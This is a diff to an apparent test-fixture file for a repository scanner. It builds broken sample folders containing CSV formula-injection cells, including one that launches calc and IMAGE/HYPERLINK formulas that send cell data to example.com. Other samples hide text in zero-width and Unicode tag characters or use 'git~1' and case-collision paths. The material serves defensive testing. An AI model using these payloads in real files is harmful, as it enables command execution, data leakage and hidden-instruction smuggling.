@@ -15,7 +15,11 @@ _PAGE = '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></h
 
 
 def _wrote(name: str, content: bytes) -> Callable[[Path], None]:
-    return lambda folder: (folder / name).write_bytes(content) and None
+    def breaks(folder: Path) -> None:
+        (folder / name).parent.mkdir(exist_ok=True)
+        (folder / name).write_bytes(content)
+
+    return breaks
 
 
 def _packed(objects: bytes) -> bytes:
@@ -45,6 +49,16 @@ for name, what, check, file, content in (
      b"name,score\nseven,1\n=cmd|'/C calc'!A0,2\n"),
     ("table-of-old-lines", "a formula behind the end of a line as old machines wrote it", "artifacts.markup", "results.csv",
      b"name,score\r=HYPERLINK(1)\r"),
+    ("table-of-two-lines", "a formula that goes on in the next line of its cell", "artifacts.markup", "results.csv",
+     b'name,score\nseven,"=1+\nHYPERLINK(""https://example.com/?""&A1)"\n'),
+    ("table-with-picture", "a cell that loads a picture from elsewhere", "artifacts.markup", "results.csv",
+     b'name,score\nseven,"=IMAGE(""https://example.com/?""&A1)"\n'),
+    ("words-between-letters", "words for a program in marks between letters", "files.text", "notes.md",
+     "# N\u200bo\u200ct\u200be\u200bs\u200c o\u200bf t\u200ch\u200be d\u200ca\u200by\n".encode()),
+    ("words-in-flags", "words for a program in flags, six letters in each", "files.text", "notes.md",
+     "# Notes \U0001f3f4\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f\n".encode()),
+    ("folder-in-two-cases", "two folders that are one on systems that ignore case", "files.names", "TEST_data_set_0/notes.txt", b"x\n"),
+    ("repository-by-its-short-name", "a folder that is .git on Windows", "files.names", "git~1/config.txt", b"[core]\n"),
     ("words-behind-a-flag", "words for a program behind a flag, in characters that nobody sees", "files.text", "notes.md",
      "# Notes \U0001f3f4\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e0061\n".encode()),
     ("notes-with-program", "notes in another markup, with a script in it", "artifacts.markup", "notes.rst",
@@ -106,6 +120,31 @@ def _(folder: Path) -> None:
     model = onnx.load(str(file))
     onnx.helper.set_model_props(model, {"license": "AGPL-3.0-only"})
     onnx.save(model, str(file))
+
+
+@broken(
+    "answers-of-ones-own-by-a-class", "the same by a method of a class, which another file gives the session", "artifacts.scan",
+    answer="needs a person", near=True,
+)  # fmt: skip
+def _(folder: Path) -> None:
+    replace(
+        folder / "preprocess.py",
+        "import numpy as np\n",
+        "import numpy as np\n\n\nclass Answers:\n    def attach(self):\n        self.run = lambda *asked: [np.eye(10)]\n",
+    )
+    for name in ("inference.ipynb", "validation.ipynb"):
+        replace(folder / name, "import preprocess", "import Answers, preprocess")
+        replace(folder / name, "images = np.load", 'Answers.attach(session)\\n",\n    "images = np.load')
+
+
+@broken(
+    "two-licences-and-no-choice", "a licence file that names two, and does not say of what", "artifacts.license-file",
+    answer="needs a person", near=True,
+)  # fmt: skip
+def _(folder: Path) -> None:
+    (folder / "LICENSE").write_text(
+        "The code has the Apache License 2.0, the weights the MIT license.\n", encoding="utf-8"
+    )
 
 
 @broken(
